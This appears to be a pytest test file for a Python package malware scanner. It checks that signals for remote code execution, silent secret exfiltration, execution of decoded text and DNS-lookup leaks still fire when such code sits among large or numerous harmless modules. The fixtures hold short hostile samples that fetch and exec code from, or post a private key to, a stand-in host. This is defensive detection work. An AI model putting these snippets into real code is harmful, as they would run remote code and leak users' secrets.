"""What hides behind harmless modules that are dear to follow."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import pytest

from scanner.report import ScanJob
from scanner.ruleset import DEFAULT_RULES, RuleSet, load_rules
from scanner.scan import scan
from tests.scanner.signals.built import WHEEL, fired, wheel

# The name of a signal, what fires it, and a harmless text that its check follows as well.
HIDDEN = {
    "remote-is-run": (
        "import requests\nURL = 'https://c.example.invalid/'\n\ndef go():\n    exec(requests.get(URL).text)\n",
        "import requests\nURL = 'https://docs.example.invalid/'\n\ndef go():\n    exec('x = 1')\n    return requests.get(URL).text\n",
    ),
    "secret-sent-silently": (
        "import requests\n\ndef login(user, private_key):\n    try:\n        requests.post('https://c.example.invalid/', json={'p': private_key}, timeout=3)\n    except Exception:\n        pass\n    return user\n",
        "import requests\n\ndef ping(private_key):\n    try:\n        requests.post('https://docs.example.invalid/', json={'up': 1}, timeout=3)\n    except Exception:\n        pass\n    return private_key\n",
    ),
    "deciphered-is-run": (
        "def load(data):\n    text = bytes(map(lambda b: (b - 83) % 256, data)).decode()\n    exec(text)\n",
        "def turn(data):\n    text = bytes(map(lambda b: (b - 83) % 256, data)).decode()\n    exec('x = 1')\n    return text\n",
    ),
    "lookup-answer-unused": (
        "import socket\n\ndef tell(word):\n    socket.gethostbyname(word + '.c.example.invalid')\n",
        "import socket\n\ndef find(word):\n    socket.gethostbyname(word)\n",
    ),
}
PASSED = {
    "pkg/feed.py": "import requests\n\ndef rows():\n    return requests.get('https://c.example.invalid/').text\n",
    "pkg/draw.py": "from . import feed\n\ndef go():\n    exec(feed.rows())\n",
}


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(DEFAULT_RULES)


def filler(size: int) -> str:
    """Harmless statements of so many bytes."""
    line = "\nvalue = [1, 2, 3]"
    return line * (size // len(line))


@pytest.mark.parametrize("sizes", [(58_000,), (38_000, 38_000), (30_000, 20_000, 10_000)], ids=str)
@pytest.mark.parametrize("kind", HIDDEN)
def test_long_modules_hide_no_short_one(kind: str, sizes: tuple[int, ...]) -> None:
    acts, harmless = HIDDEN[kind]
    package = {"pkg/__init__.py": ""}
    package |= {f"pkg/a{number}.py": harmless + filler(size) for number, size in enumerate(sizes)}
    told = fired(WHEEL, wheel({name: text.encode() for name, text in (package | {"pkg/z.py": acts}).items()}))
    assert kind in told
    assert kind not in fired(WHEEL, wheel({name: text.encode() for name, text in package.items()}))


@pytest.mark.parametrize("size", [16_000, 30_000])
def test_long_modules_hide_no_two_short_ones(size: int) -> None:
    dear = "import requests\nfrom . import {0}\n\ndef go():\n    exec('x = 1')\n    {0}.go()\n    return requests.get('https://docs.example.invalid/').text\n"
    package = {"pkg/__init__.py": ""}
    package |= {f"pkg/{name}.py": dear.format(other) + filler(size) for name, other in ("ab", "ba")}
    assert "remote-is-run" in fired(WHEEL, wheel({name: text.encode() for name, text in (package | PASSED).items()}))


@pytest.mark.parametrize("kind", HIDDEN)
def test_what_many_short_modules_hide_is_not_passed_over_silently(kind: str, rules: RuleSet) -> None:
    acts, harmless = HIDDEN[kind]
    package = {"pkg/__init__.py": ""}
    package |= {f"pkg/a{number:03}.py": harmless for number in range(800)}
    crowd = package | {"pkg/z.py": acts + filler(3_000)}
    report = scan(ScanJob(filename=WHEEL, data=wheel({name: text.encode() for name, text in crowd.items()})), rules)
    told = [anomaly for anomaly in report.anomalies if anomaly.kind == "code-unfollowed"]
    assert told or kind in {finding.rule for finding in report.findings}
    assert report.complete  # every text was matched by rules


def test_of_what_is_followed_nothing_is_named(rules: RuleSet) -> None:
    package = {"pkg/__init__.py": "", **{f"pkg/{number}.py": acts for number, (acts, _) in enumerate(HIDDEN.values())}}
    report = scan(ScanJob(filename=WHEEL, data=wheel({name: text.encode() for name, text in package.items()})), rules)
    assert not [anomaly for anomaly in report.anomalies if anomaly.kind == "code-unfollowed"]
